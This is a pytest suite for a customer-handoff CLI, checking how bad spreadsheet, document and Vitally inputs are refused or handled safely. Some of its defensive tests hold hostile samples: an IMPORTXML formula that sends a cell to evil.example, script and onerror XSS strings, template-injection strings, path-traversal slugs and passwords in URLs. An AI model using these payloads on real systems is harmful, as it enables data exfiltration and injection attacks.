"""The bad-input catalogue: each case is the sample workspace with one thing wrong, run end to end.

Every case builds a seed folder in tmp (a copy of config/sandbox with one CSV cell, tab, TDD or
Vitally record changed), starts a sandbox on it and runs the real CLI (`handoff run ACCOUNT
--json`) through the real clients. A refused input must give

* exit 1 (2 for configuration), never a traceback;
* a problem of severity error with the expected message fragment at the expected place
  (a sheet cell such as `Accounts!N2`), or for an input that stops the whole read, one
  `error:` line naming the place;
* nothing written: no request other than GET in the sandbox request log, and no local copy
  under out/.

Cases that change only cells of acme's rows run together: each becomes a clone of acme
(`SeedFolder.clone_account`, its own slug and rows) in one seed, and one batch run (`handoff run
case-01 case-02 … --json`) stands for all of them, the expected place moved to the clone's row.
The per-case tests then read their own account's plan; nothing may be written by the batch.
Every other case (a tab, a header, a TDD, a Vitally file) gets its own sandbox.

Inputs the tool must take (numbers typed as text, dates in other forms, formulas, a huge TDD,
merged or ragged TDD tables, template syntax, HTML, formula text, Unicode and right-to-left
text) are run to the end, and what they turned into is checked where it lands: the Vitally
traits, the Google Doc, the Vitally note, the sheet.
"""

from __future__ import annotations

import contextlib
import json
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from handoff.gdocs.html_to_docs import html_to_docs
from workspace import DOCS, SHEET_ID, Clone, SeedFolder, Workspace, run_cli

ACME = "0015e00000Kq7TbAAJ"  # acme's Vitally externalId
UMBRELLA = "eca9bad1-449e-48e4-b15c-e760f3e452f2"
Vary = Callable[[SeedFolder], None]


@dataclass(frozen=True)
class Refused:
    """A bad input that must stop the account: (message fragment, location) of its error."""

    id: str
    vary: Vary
    message: str
    location: str | None  # None: the whole read stops; the message names the place
    account: str = "acme"


@dataclass(frozen=True)
class Cells:
    """A variation of cells only (A1 addresses as in the sample workspace): applies to a clone too."""

    pairs: tuple[tuple[str, str], ...]

    def __call__(self, seed: SeedFolder, clone: Clone | None = None) -> None:
        for a1, value in self.pairs:
            seed.set(clone.a1(a1) if clone else a1, value)

    def in_rows_of(self, clone: Clone) -> bool:
        try:
            [clone.a1(a1) for a1, _ in self.pairs]
        except KeyError:
            return False
        return True


def cell(a1: str, value: str) -> Cells:
    return Cells(((a1, value),))


def cells(*pairs: tuple[str, str]) -> Cells:
    return Cells(pairs)


def drop_tab(title: str) -> Vary:
    return lambda seed: seed.drop_tab(title)


def duplicate_row(title: str, source: int, at: int) -> Vary:
    return lambda seed: seed.edit_rows(title, lambda rows: rows.insert(at - 1, list(rows[source - 1])))


def drop_vitally(file: str, keep: Callable[[dict[str, Any]], bool]) -> Vary:
    return lambda seed: seed.edit_json(f"vitally/{file}", lambda items: [i for i in items if keep(i)])


def set_doc(doc_id: str, **kwargs: Any) -> Vary:
    return lambda seed: seed.set_doc(doc_id, **kwargs)


def only_in_a_suggestion(seed: SeedFolder) -> None:
    """initech's production 'Largest repository: 1.8 GB' (the only source of T6) with the value a
    pending suggestion: the run splits into the label, the suggested insertion and the newline."""
    doc = html_to_docs(seed.doc_html(DOCS["initech"]), chips=True, document_id=DOCS["initech"])
    hits = [e for e in _walk(doc) if e.get("textRun", {}).get("content") == "Largest repository: 1.8 GB\n"]
    assert len(hits) == 1
    for p in _walk(doc):
        elements = p.get("elements")
        if isinstance(elements, list) and hits[0] in elements:
            at = elements.index(hits[0])
            style = hits[0]["textRun"].get("textStyle", {})
            elements[at : at + 1] = [
                {"textRun": {"content": "Largest repository: ", "textStyle": style}},
                {
                    "textRun": {
                        "content": "1.8 GB",
                        "textStyle": style,
                        "suggestedInsertionIds": ["suggest.1"],
                    }
                },
                {"textRun": {"content": "\n", "textStyle": style}},
            ]
    seed.set_doc(DOCS["initech"], docs_json=doc)


def _walk(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield value
        for v in value.values():
            yield from _walk(v)
    elif isinstance(value, list):
        for v in value:
            yield from _walk(v)


def group_row_above_headers(seed: SeedFolder) -> None:
    """A title row over merged cells ('Sizing' over N1:P1): the headers move to row 2."""

    def insert(rows: list[list[str]]) -> None:
        group = [""] * len(rows[0])
        group[13] = "Sizing"
        rows.insert(0, group)

    seed.edit_rows("Accounts", insert)


BIG = 50_000  # the most a Google Sheets cell holds

REFUSED = [
    # -- the sheet's shape -------------------------------------------------------------------------
    Refused("missing log tab", drop_tab("Checklist"), "the spreadsheet has no 'Checklist' tab", "Checklist"),
    Refused("missing Accounts tab", drop_tab("Accounts"), "no tab named 'Accounts'", None),
    Refused("missing header", cell("Accounts!D1", ""), "no 'Technical Advisor' column", "Accounts!1:1"),
    Refused("no Account header", cell("Accounts!A1", ""), "no 'Account' column", None),
    Refused(
        "duplicate header",
        cell("Accounts!G1", "Total CPU"),
        "two 'Total CPU' columns: G ('Total CPU') and N",
        "Accounts!N1",
    ),
    Refused(
        "blank header over values",
        cell("Accounts!Y1", ""),
        "column Y of the Accounts tab has no header",
        "Accounts!Y2",
    ),
    Refused(
        "merged header cells",  # 'Total CPU' merged over N1:O1: the API gives N1 the text, O1 a blank
        cell("Accounts!O1", ""),
        "column O of the Accounts tab has no header",
        "Accounts!O2",
    ),
    Refused(
        "duplicate account", duplicate_row("Accounts", 2, 6), "account 'acme' has two rows", "Accounts!A6"
    ),
    Refused(
        "duplicate account, other case",
        cell("Accounts!A8", "ACME "),
        "account 'ACME' has two rows",
        "Accounts!A8",
    ),
    # -- formulas and their error values -----------------------------------------------------------
    Refused("#REF! in a number", cell("Accounts!N2", "#REF!"), "the cell shows #REF!", "Accounts!N2"),
    Refused("#N/A as a name", cell("Accounts!B2", "#N/A"), "the cell shows #N/A", "Accounts!B2"),
    Refused(
        "#VALUE! in a checkbox", cell("Checklist!C2", "#VALUE!"), "the cell shows #VALUE!", "Checklist!C2"
    ),
    Refused("#DIV/0! in a size", cell("Accounts!P2", "#DIV/0!"), "the cell shows #DIV/0!", "Accounts!P2"),
    Refused("#NAME? as an email", cell("Accounts!D2", "#NAME?"), "the cell shows #NAME?", "Accounts!D2"),
    Refused("#ERROR! in a note", cell("Notes!D2", "#ERROR!"), "the cell shows #ERROR!", "Notes!D2"),
    Refused("formula still loading", cell("Accounts!K2", "Loading..."), "'Loading...'", "Accounts!K2"),
    # -- wrong types ------------------------------------------------------------------------------
    Refused("words for a number", cell("Accounts!N2", "sixty-four"), "is not a number", "Accounts!N2"),
    Refused("boolean for a number", cell("Accounts!N2", "TRUE"), "'TRUE' is not a number", "Accounts!N2"),
    Refused("fraction for a count", cell("Accounts!R2", "'9412.5"), "is not a whole number", "Accounts!R2"),
    Refused("negative count", cell("Accounts!S2", "-3"), "must be 0 or more", "Accounts!S2"),
    Refused(
        "name for an email", cell("Accounts!D2", "Dana Whitfield"), "is not an email address", "Accounts!D2"
    ),
    Refused(
        "number for a vocabulary", cell("Accounts!H2", "42"), "unknown deployment type '42'", "Accounts!H2"
    ),
    Refused("words for a date", cell("Accounts!K2", "last week"), "'last week' is not a date", "Accounts!K2"),
    Refused("not a checkbox", cell("Checklist!C2", "maybe"), "'maybe' is not yes or no", "Checklist!C2"),
    Refused("URL without a host", cell("Accounts!J2", "https://"), "no valid host name", "Accounts!J2"),
    Refused(
        "URL with a stray bracket",
        cell("Accounts!J2", "https://[sourcegraph.acme"),
        "is not a URL",
        "Accounts!J2",
    ),
    Refused(
        "token in a URL", cell("Accounts!J2", "https://ghp_t0ken@sg.acme.com"), "credentials", "Accounts!J2"
    ),
    Refused(
        "TDD link with a stray bracket",
        cell("Accounts!F2", "https://[docs.google.com/document/d/1x"),
        "is not a URL",
        "Accounts!F2",
    ),
    # -- placeholders ("n/a", "TBD") in a required field -------------------------------------------
    Refused("TBD in a required number", cell("Accounts!N2", "TBD"), "'TBD' is a placeholder", "Accounts!N2"),
    Refused("n/a in a required list", cell("Accounts!Q2", "n/a"), "'n/a' is a placeholder", "Accounts!Q2"),
    # -- dates in odd forms that cannot be read ---------------------------------------------------
    Refused("month 14", cell("Accounts!K2", "'2026-14-09"), "'2026-14-09' is not a real date", "Accounts!K2"),
    Refused(  # observed: read as 9 March, while '14/09/2026' in the same sheet was read day first
        "ambiguous slash date",
        cell("Accounts!K2", "'03/09/2026"),
        "'03/09/2026' is ambiguous: write 2026-09-03 or 3 Sep 2026",
        "Accounts!K2",
    ),
    Refused("no day", cell("Accounts!K2", "September 2026"), "'September 2026' has no day", "Accounts!K2"),
    Refused("31 February", cell("Accounts!L2", "'31/02/2026"), "is not a real date", "Accounts!L2"),
    Refused("date in the future", cell("Accounts!L2", "2027-01-01"), "is in the future", "Accounts!L2"),
    # -- 50,000-character cells -------------------------------------------------------------------
    Refused("50k-character name", cell("Accounts!B2", "x" * BIG), "50,000 characters long", "Accounts!B2"),
    Refused(
        "50k-character Vitally id", cell("Accounts!C2", "a" * BIG), "50,000 characters long", "Accounts!C2"
    ),
    Refused(
        "50k-character URL",
        cell("Accounts!J2", "https://" + "a" * (BIG - 12) + ".com"),
        "characters long",
        "Accounts!J2",
    ),
    Refused("50k-character category", cell("Notes!C2", "x" * BIG), "50,000 characters long", "Notes!C2"),
    # -- the TDD ----------------------------------------------------------------------------------
    Refused("no TDD link", cell("Accounts!F2", ""), "TDD Link is required but missing", "Accounts!F2"),
    Refused(
        "link to a spreadsheet",
        cell("Accounts!F2", f"https://docs.google.com/spreadsheets/d/{SHEET_ID}/edit"),
        "a Google Sheets spreadsheet, not a Google Doc",
        "Accounts!F2",
    ),
    Refused(
        "link to a Drive file",
        cell("Accounts!F2", "https://drive.google.com/file/d/1AbCdEfGhIjKlMnOp/view"),
        "a Google Drive file link",
        "Accounts!F2",
    ),
    Refused(
        "Docs link to a non-Doc",
        cell("Accounts!F2", f"https://docs.google.com/document/d/{SHEET_ID}/edit"),
        "not a Google Doc",
        "Accounts!F2",
    ),
    Refused(
        "link to a deleted doc",
        cell("Accounts!F2", "https://docs.google.com/document/d/1NoSuchDocument0000000000000000/edit"),
        "does not exist",
        "Accounts!F2",
    ),
    Refused("no access to the TDD", set_doc(DOCS["acme"], restricted=True), "permission", "Accounts!F2"),
    Refused(
        "empty TDD",  # initech's T6 is blank on purpose: only its TDD says 1.8 GB
        set_doc(DOCS["initech"], html=""),
        "Largest Repo (MB) is required but missing",
        "Accounts!T6",
        account="initech",
    ),
    Refused(
        "field only in a suggestion",
        only_in_a_suggestion,
        "Largest Repo (MB) is required but missing",
        "Accounts!T6",
        account="initech",
    ),
    # -- Vitally ----------------------------------------------------------------------------------
    Refused(
        "unknown Vitally account",
        cell("Accounts!C2", "0015e00000NOPE"),
        "Vitally has no account",
        "Accounts!C2",
    ),
    Refused(
        "account gone from Vitally",
        drop_vitally("accounts.json", lambda a: a.get("externalId") != ACME),
        "Vitally has no account",
        "Accounts!C2",
    ),
    Refused(
        "TA unknown to Vitally",
        cell("Accounts!D2", "nobody@sourcegraph.com"),
        "nobody@sourcegraph.com is not an active Vitally admin",
        "Accounts!D2",
    ),
    Refused(
        "TA gone from Vitally",
        drop_vitally("admins.json", lambda a: not a["email"].startswith("dana.")),
        "dana.whitfield@sourcegraph.com is not an active Vitally admin",
        "Accounts!D2",
    ),
]


def start(tmp_path: Path, vary: Vary | None = None, account: str = "acme") -> tuple[SeedFolder, Any]:
    """The sample workspace with `vary` applied (only `account`'s TDD seeded: faster), not yet started."""
    seed = SeedFolder.copy(tmp_path / "seed", tdds=(account,))
    if vary is not None:
        vary(seed)
    return seed, Workspace.start(seed.root, tmp_path)


@dataclass
class Batch:
    """One sandbox and one batch run for many cell cases, each on its own clone of acme."""

    ws: Workspace
    clones: dict[str, Clone]  # case id -> its clone
    code: int
    out: str
    err: str
    plans: dict[str, dict[str, Any]]  # slug -> plan JSON (with "result" when applied)
    writes: list[dict[str, Any]]


@contextlib.contextmanager
def run_clones(tmp: Path, cases: dict[str, Cells], *, own_vitally: bool) -> Iterator[Batch]:
    """Seed one clone of acme per case (its cells varied), run them all in one batch; the result."""
    seed = SeedFolder.copy(tmp / "seed", tdds=("acme",))
    clones = {}
    for n, (case_id, vary) in enumerate(cases.items(), 1):
        vitally_id = f"00000000-0000-4000-8000-{n:012d}" if own_vitally else None
        clones[case_id] = clone = seed.clone_account("acme", f"case-{n:02d}", vitally_id=vitally_id)
        vary(seed, clone)
    with Workspace.start(seed.root, tmp) as ws:
        code, out, err = ws.cli("run", *(c.slug for c in clones.values()), "--json")
        data = json.loads(out) if out.strip() else {"accounts": []}
        plans = {p["account"]: p for p in data["accounts"]}
        yield Batch(ws, clones, code, out, err, plans, ws.writes_after(0))


ROW_CASES = [c for c in REFUSED if isinstance(c.vary, Cells) and c.account == "acme"]


@pytest.fixture(scope="module")
def refused_batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Batch]:
    probe = SeedFolder.copy(tmp_path_factory.mktemp("probe") / "seed").clone_account("acme", "probe")
    cases = {c.id: c.vary for c in ROW_CASES if isinstance(c.vary, Cells) and c.vary.in_rows_of(probe)}
    with run_clones(tmp_path_factory.mktemp("refused"), cases, own_vitally=False) as batch:
        yield batch


def assert_refused(case: Refused, plan: dict[str, Any], location: str) -> None:
    assert plan["blocked"] and plan["changes"] == [], plan
    assert "unexpected" not in plan["blocked"]  # the runner's name for a bug caught in one account
    errors = [p for p in plan["problems"] if p["severity"] == "error"]
    assert all(p["location"] for p in errors), errors
    assert any(case.message in p["message"] and p["location"] == location for p in errors), errors
    assert all(p["fix"] for p in errors)
    assert all(len(p["message"]) < 2_000 for p in plan["problems"])  # nothing 50,000 long echoed


@pytest.mark.parametrize("case", REFUSED, ids=[c.id for c in REFUSED])
def test_refused_input_names_the_place_and_writes_nothing(
    tmp_path: Path, case: Refused, refused_batch: Batch
) -> None:
    clone = refused_batch.clones.get(case.id)
    if clone is not None:  # run with the others, on its own clone of acme
        assert case.location is not None
        assert refused_batch.code == 1 and "Traceback" not in refused_batch.out + refused_batch.err
        assert_refused(case, refused_batch.plans[clone.slug], clone.a1(case.location))
        assert refused_batch.writes == [] and not (refused_batch.ws.out_dir / clone.slug).exists()
        return
    _, workspace = start(tmp_path, case.vary, case.account)
    with workspace as ws:
        code, out, err = ws.cli("run", case.account, "--json")
        assert code == 1, (out, err)
        assert "Traceback" not in out + err
        if case.location is None:
            assert out.strip() == ""
            assert err.startswith("error: ") and case.message in err and "fix: " in err
        else:
            assert_refused(case, json.loads(out)["accounts"][0], case.location)
        assert ws.writes_after(0) == []
        assert not (ws.out_dir / case.account).exists()


# -- inputs that must be taken ------------------------------------------------------------------


@dataclass(frozen=True)
class Taken:
    id: str
    vary: Cells
    trait: str  # the Vitally trait the value lands in
    expected: Any


TAKEN = [
    Taken("number typed as text", cell("Accounts!N2", "'64"), "totalCpu", 64),
    Taken("number with its unit", cell("Accounts!N2", "64 vCPU"), "totalCpu", 64),
    Taken("arithmetic formula", cell("Accounts!N2", "=60+4"), "totalCpu", 64),
    Taken("size with a unit", cell("Accounts!P2", "4 TB"), "totalDiskGb", 4000),
    Taken("GiB counts as GB", cell("Accounts!O2", "224 GiB"), "totalMemoryGb", 224),
    Taken("TiB is ×1000", cell("Accounts!P2", "4 TiB"), "totalDiskGb", 4000),
    Taken("MB ÷1000, one decimal", cell("Accounts!O2", "224,560 MB"), "totalMemoryGb", 224.6),
    Taken("Kubernetes Gi", cell("Accounts!O2", "224Gi"), "totalMemoryGb", 224),
    Taken("day first", cell("Accounts!K2", "'14/09/2026"), "productionStartDate", "2026-09-14T12:00:00.000Z"),
    Taken(  # typed into Sheets (en_US): a real date, read by its serial number, never by its text
        "a real date cell",  # as text, '11/6/2026' would be ambiguous
        cell("Accounts!L2", "11/6/2026"),
        "productionCompletionDate",
        "2026-11-06T12:00:00.000Z",
    ),
    Taken("dotted", cell("Accounts!K2", "'14.09.2026"), "productionStartDate", "2026-09-14T12:00:00.000Z"),
    Taken(
        "slashes, ISO order",
        cell("Accounts!K2", "'2026/9/14"),
        "productionStartDate",
        "2026-09-14T12:00:00.000Z",
    ),
    Taken(
        "month name", cell("Accounts!K2", "Sept 14 2026"), "productionStartDate", "2026-09-14T12:00:00.000Z"
    ),
    Taken(
        "ordinal",
        cell("Accounts!K2", "14th September 2026"),
        "productionStartDate",
        "2026-09-14T12:00:00.000Z",
    ),
    Taken(
        "weekday",
        cell("Accounts!K2", "Monday, September 14, 2026"),
        "productionStartDate",
        "2026-09-14T12:00:00.000Z",
    ),
    Taken("serial number", cell("Accounts!K2", "'46279"), "productionStartDate", "2026-09-14T12:00:00.000Z"),
    Taken(
        "two-digit year", cell("Accounts!K2", "'09/14/26"), "productionStartDate", "2026-09-14T12:00:00.000Z"
    ),
    Taken("50k-character comment (not a field)", cell("Accounts!Y2", "x" * BIG), "totalCpu", 64),
    Taken("50k-character note (free text)", cell("Notes!D2", "n" * BIG), "totalCpu", 64),
]


@pytest.fixture(scope="module")
def taken_batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Batch]:
    cases = {c.id: c.vary for c in TAKEN}
    with run_clones(tmp_path_factory.mktemp("taken"), cases, own_vitally=True) as batch:
        yield batch


@pytest.mark.parametrize("case", TAKEN, ids=[c.id for c in TAKEN])
def test_taken_input_lands_as_its_value(case: Taken, taken_batch: Batch) -> None:
    clone = taken_batch.clones[case.id]
    plan = taken_batch.plans[clone.slug]
    assert not plan["blocked"] and plan["result"]["failed"] is None, plan
    assert "Traceback" not in taken_batch.out + taken_batch.err
    traits = taken_batch.ws.account(str(clone.vitally_id))["traits"]
    assert traits[f"vitally.custom.{case.trait}"] == case.expected
    status = taken_batch.ws.values(clone.a1("Accounts!Z2"))
    assert status == [["handed off"]]  # the write-back found the clone's row


def test_a_group_row_above_the_headers_keeps_every_write_in_its_row(tmp_path: Path) -> None:
    """It used to crash the write-back (KeyError) after the doc and Vitally were written."""
    _, workspace = start(tmp_path, group_row_above_headers)
    with workspace as ws:
        assert ws.cli("run", "acme")[0] == 0
        assert ws.values("Accounts!A1:A3") == [[], ["Account"], ["acme"]]
        assert ws.values("Accounts!Z2:AB2") == [["Handoff Status", "Handoff Doc", "Last Handoff"]]
        mark = ws.mark()
        code, out, _ = ws.cli("run", "acme")
        assert code == 0 and "up to date" in out and ws.writes_after(mark) == []


# -- the TDD as people write it -------------------------------------------------------------------


def test_a_huge_tdd_is_read_whole(tmp_path: Path) -> None:
    """~120 pages (1,000 sections, 0.8 MB of HTML) before acme's own content: still read to the end."""

    def huge(seed: SeedFolder) -> None:
        html = seed.doc_html(DOCS["acme"])
        filler = "".join(
            f"<h3>Appendix {i}</h3><p>{'Notes from the weekly sync, nothing to hand over. ' * 12}</p>"
            f"<table><tr><td><b>Region</b></td><td>us-east-{i}</td></tr></table>"
            for i in range(1000)
        )
        seed.set_doc(DOCS["acme"], html=html.replace("<h2>Overview</h2>", filler + "<h2>Overview</h2>"))
        seed.set("Accounts!T2", "")  # the largest repository then comes from the TDD's last pages

    _, workspace = start(tmp_path, huge)
    with workspace as ws:
        code, out, err = ws.cli("run", "acme", "--json")
        assert code == 0, err
        (plan,) = json.loads(out)["accounts"]
        assert plan["problems"] == [] and plan["result"]["failed"] is None
        assert ws.account(ACME)["traits"]["vitally.custom.largestRepoMb"] == 6200


def test_an_empty_tdd_is_a_warning_at_its_link_when_the_sheet_has_everything(tmp_path: Path) -> None:
    _, workspace = start(tmp_path, set_doc(DOCS["acme"], html=""))
    with workspace as ws:
        code, out, err = ws.cli("run", "acme", "--json")
        assert code == 0, err
        (plan,) = json.loads(out)["accounts"]
        assert [(p["severity"], p["location"]) for p in plan["problems"]] == [("warning", "Accounts!F2")]
        assert "the linked TDD is empty" in plan["problems"][0]["message"]


MERGED_TABLE = (
    "<table>"
    '<tr><td rowspan="2"><b>Deployment type</b></td><td>Kubernetes with Helm</td></tr>'
    "<tr><td>AWS</td></tr>"
    '<tr><td colspan="2"><b>Hosting provider</b></td></tr>'
    '<tr><td><b>Total CPU</b></td><td colspan="2">64 vCPU</td></tr>'
    "</table>"
)
RAGGED_TABLE = (
    "<table>"
    "<tr><td><b>Monorepos</b></td></tr>"
    "<tr></tr>"
    "<tr><td><b>Repositories</b></td><td>~9,400</td><td>synced</td><td>as of Nov</td></tr>"
    "<tr><td>x</td><td>y</td><td>z</td><td>1</td><td>2</td><td>3</td></tr>"
    "</table>"
)


@pytest.mark.parametrize("table", [MERGED_TABLE, RAGGED_TABLE], ids=["merged cells", "ragged rows"])
def test_tdd_tables_with_merged_or_ragged_cells_are_not_misread(tmp_path: Path, table: str) -> None:
    """A value never moves to another label: the merged label spans rows it has no value in."""

    def vary(seed: SeedFolder) -> None:
        html = seed.doc_html(DOCS["acme"])
        seed.set_doc(DOCS["acme"], html=html.replace("<h2>Overview</h2>", table + "<h2>Overview</h2>"))

    _, workspace = start(tmp_path, vary)
    with workspace as ws:
        code, out, err = ws.cli("check", "acme", "--json")
        assert code == 0, out + err
        checked = json.loads(out)
        notes = [p for p in checked["problems"] if p["severity"] == "info"]  # TDD lines not used: listed
        assert [p for p in checked["problems"] if p not in notes] == [] and checked["disagreements"] == []
        assert checked["fields"]["hosting_provider"]["value"] == "AWS"
        assert ws.cli("run", "acme")[0] == 0


# -- values are data ------------------------------------------------------------------------------

INJECTED_NAME = "Acme {{ 7*7 }} {% for x in range(3) %}X{% endfor %} <script>alert('name')</script>"
INJECTED_NOTE = "Watch {{ config.items() }} and <img src=x onerror=alert(1)> & {# comment #}"


def test_template_syntax_and_html_in_values_come_out_as_text(tmp_path: Path) -> None:
    reason = "<b>signed off</b> {{ run }} by email"
    vary = cells(("Accounts!B7", INJECTED_NAME), ("Notes!D19", INJECTED_NOTE))
    _, workspace = start(tmp_path, vary, "umbrella")
    with workspace as ws:
        code, out, err = ws.cli("run", "umbrella", "--override-readiness", reason)
        assert code == 0, out + err
        doc = ws.handoff_docs("umbrella")[0]
        assert doc["name"].startswith(INJECTED_NAME)  # the Drive title is plain text
        text = ws.export(doc["id"])
        for literal in (INJECTED_NAME, INJECTED_NOTE, reason):
            assert literal in text  # rendered literally, not evaluated
        assert "XXX" not in text and "Acme 49" not in text
        html = ws.export(doc["id"], "text/html")
        local = (ws.out_dir / "umbrella" / "handoff.html").read_text(encoding="utf-8")
        note = ws.notes(UMBRELLA)[0]["note"]
        for rendered in (html, local, note):
            assert "<script" not in rendered and "<img" not in rendered and "<b>signed" not in rendered
            assert "&lt;script&gt;" in rendered
        assert "{{ 7*7 }}" in note and "&lt;b&gt;signed off&lt;/b&gt; {{ run }}" in note
        task = ws.tasks(UMBRELLA)[0]
        assert "<script" not in task["description"] and "{{ 7*7 }}" in task["name"]


FORMULA = '=IMPORTXML("https://evil.example/x?d="&A2,"//a")'


def test_formula_text_written_back_stays_text(tmp_path: Path) -> None:
    """Values that reach the sheet (who ran it, the override reason, the log) are written RAW."""
    _, workspace = start(tmp_path, account="umbrella")
    with workspace as ws:
        code, out, err = ws.cli(
            "run", "umbrella", "--override-readiness", "=1+1", env={"HANDOFF_USER": FORMULA}
        )
        assert code == 0, out + err
        log = ws.values("'Handoff Log'!A2:F2")[0]
        assert log[1] == FORMULA and log[5].endswith("readiness overridden: =1+1")
        assert ws.user_entered("'Handoff Log'!B2") == {"stringValue": FORMULA}  # not formulaValue
        last = ws.values("Accounts!AB7")[0][0]
        assert last.endswith(f"by {FORMULA}")
        formulas = ws.values("'Handoff Log'!A1:F2", render="FORMULA") + ws.values(
            "Accounts!Z7:AB7", "FORMULA"
        )
        plain = ws.values("'Handoff Log'!A1:F2") + ws.values("Accounts!Z7:AB7")
        assert formulas == plain  # no cell holds a formula


UNICODE_NAME = "شركة أكمي (Acme) — Ünïcødé 日本語 👩🏽‍💻 e\u0301"
RTL_NOTE = "עברית: שלום עולם; العربية: مرحبا; mixed \u202bRTL embed\u202c and Zalgo Z̷̢a̶l̸g̵o"


def test_unicode_and_right_to_left_text_survive_end_to_end(tmp_path: Path) -> None:
    _, workspace = start(tmp_path, cells(("Accounts!B2", UNICODE_NAME), ("Notes!D6", RTL_NOTE)))
    with workspace as ws:
        code, out, err = ws.cli("run", "acme")
        assert code == 0, out + err
        assert UNICODE_NAME in out  # the plan names the account as written
        doc = ws.handoff_docs("acme")[0]
        assert doc["name"] == f"{UNICODE_NAME}: Sourcegraph implementation handoff"
        text = ws.export(doc["id"])
        assert UNICODE_NAME in text and RTL_NOTE in text
        assert unicodedata.is_normalized("NFC", UNICODE_NAME) is False  # e + combining acute kept as is
        local = (ws.out_dir / "acme" / "handoff.html").read_text(encoding="utf-8")
        assert UNICODE_NAME in local and RTL_NOTE in local
        note = ws.notes(ACME)[0]
        assert note["subject"] == f"Implementation handoff: {UNICODE_NAME}" and UNICODE_NAME in note["note"]
        assert ws.values("Accounts!B2") == [[UNICODE_NAME]]  # the sheet's own cell untouched


# -- configuration ---------------------------------------------------------------------------------


def test_a_malformed_seed_is_a_configuration_error_naming_file_and_line(tmp_path: Path) -> None:
    seed = SeedFolder.copy(tmp_path / "seed")
    (seed.root / "sheet" / "Accounts.csv").write_text('Account,Name\nacme,"Acme\n', encoding="utf-8")
    env = {
        "HANDOFF_SANDBOX_SEED": str(seed.root),
        "HANDOFF_SANDBOX_DIR": str(tmp_path / "state"),
        "HANDOFF_OUT_DIR": str(tmp_path / "out"),
    }
    code, out, err = run_cli("run", "acme", env=env)  # the CLI starts its own sandbox, and cannot seed it
    assert code == 2, out + err
    assert "Accounts.csv: line 2" in err and "malformed CSV" in err and "fix: " in err
    assert "Traceback" not in err and not (tmp_path / "out").exists()


# -- the sandbox behaves as the APIs do for these inputs ----------------------------------------------


def test_documents_get_previews_without_suggestions(tmp_path: Path) -> None:
    """What the tool asks for (PREVIEW_WITHOUT_SUGGESTIONS) has no trace of a pending suggestion."""
    from handoff.core.fields import load_catalogue
    from handoff.read.tdd import parse_document
    from workspace import PROJECT_ROOT

    catalogue = load_catalogue(PROJECT_ROOT / "config" / "fields.toml")

    def largest(mode: str | None) -> list[str]:
        params = {"includeTabsContent": "true"} | ({"suggestionsViewMode": mode} if mode else {})
        doc = ws.http.get(f"/v1/documents/{DOCS['initech']}", params=params).json()
        values = parse_document(doc, catalogue)
        return [v.text for v in values if v.field == "largest_repo_mb" and v.section != "trial"]

    _, workspace = start(tmp_path, only_in_a_suggestion, "initech")
    with workspace as ws:
        assert largest("PREVIEW_SUGGESTIONS_ACCEPTED") == ["1.8 GB"]
        assert largest("PREVIEW_WITHOUT_SUGGESTIONS") == []
        assert largest(None) == []  # inline: the parser itself skips suggested insertions


def test_an_id_too_long_for_the_sandbox_store_is_not_found(tmp_path: Path) -> None:
    _, workspace = start(tmp_path)
    with workspace as ws:
        assert ws.vitally.get("/accounts/" + "a" * 5000).status_code == 404
        assert ws.http.get("/drive/v3/files/" + "b" * 5000).status_code == 404


# -- unsafe input -----------------------------------------------------------------------------------

UNSAFE_SLUGS = ["../evil", "/tmp/handoff-evil", "a\\b", "..", "x" * 65, "team/acme"]


def test_an_unsafe_account_slug_is_an_error_at_its_cell_and_nothing_lands_outside_out(tmp_path: Path) -> None:
    seed = SeedFolder.copy(tmp_path / "seed", tdds=("acme",))
    clones = [seed.clone_account("acme", slug) for slug in UNSAFE_SLUGS]
    with Workspace.start(seed.root, tmp_path) as ws:
        for draft in ((), ("--draft",)):  # a draft (which ignores errors) is refused too
            code, out, err = ws.cli("run", *UNSAFE_SLUGS, *draft, "--json")
            assert code == 1 and "Traceback" not in out + err
            plans = {p["account"]: p for p in json.loads(out)["accounts"]}
            for clone in clones:
                plan = plans[clone.slug]
                assert plan["blocked"] and plan["changes"] == [], plan
                a1 = clone.a1("Accounts!A2")
                assert any(
                    p["severity"] == "error"
                    and p["location"] == a1
                    and ("not a safe name" in p["message"] or "characters long" in p["message"])
                    for p in plan["problems"]
                ), plan["problems"]
        assert ws.writes_after(0) == []
        assert not (tmp_path / "evil").exists() and not Path("/tmp/handoff-evil").exists()
        assert not ws.out_dir.exists() or list(ws.out_dir.iterdir()) == []


PASSWORD = "s3cr/et-pw"  # a '/' in the password: the URL no longer splits where it seems to


def test_a_password_with_a_slash_is_never_echoed(tmp_path: Path) -> None:
    url = f"https://admin:{PASSWORD}@sourcegraph.acmecorp.com"
    _, workspace = start(tmp_path, cell("Accounts!J2", url))
    with workspace as ws:
        for argv in (
            ("check", "acme"),
            ("check", "acme", "--json"),
            ("run", "acme"),
            ("run", "acme", "--json"),
        ):
            code, out, err = ws.cli(*argv)
            assert code == 1 and "Traceback" not in out + err
            assert PASSWORD not in out + err and "s3cr" not in out + err, argv
            assert "https://***@sourcegraph.acmecorp.com" in out
        assert ws.writes_after(0) == []


def test_handoff_tdd_never_prints_a_url_password(tmp_path: Path) -> None:
    page = tmp_path / "tdd.html"
    page.write_text(
        "<h2>Production</h2><p>Instance URL: https://admin:hunter2@sourcegraph.example.com</p>"
        f"<p>Grafana: https://ops:{PASSWORD}@grafana.example.com/d/1</p>",
        encoding="utf-8",
    )
    for json_flag in ((), ("--json",)):
        code, out, err = run_cli("tdd", str(page), *json_flag)
        assert code == 0, err
        assert "hunter2" not in out + err and "s3cr" not in out + err
        assert "***@" in out


@pytest.mark.parametrize("placeholder", ["n/a", "none", "-", "TBD"])
def test_a_placeholder_in_an_optional_field_means_not_recorded(tmp_path: Path, placeholder: str) -> None:
    """Observed: "n/a" in Max Users blocked the handoff."""
    _, workspace = start(tmp_path, cells(("Accounts!U2", placeholder), ("Accounts!V2", placeholder)))
    with workspace as ws:
        code, out, err = ws.cli("check", "acme", "--json")
        assert code == 0, out + err
        checked = json.loads(out)
        infos = {p["location"]: p for p in checked["problems"] if p["severity"] == "info"}
        assert "means not recorded" in infos["Accounts!U2"]["message"]
        assert [p for p in checked["problems"] if p["severity"] != "info"] == []
        assert checked["fields"].get("max_users", {}).get("source") != "sheet"


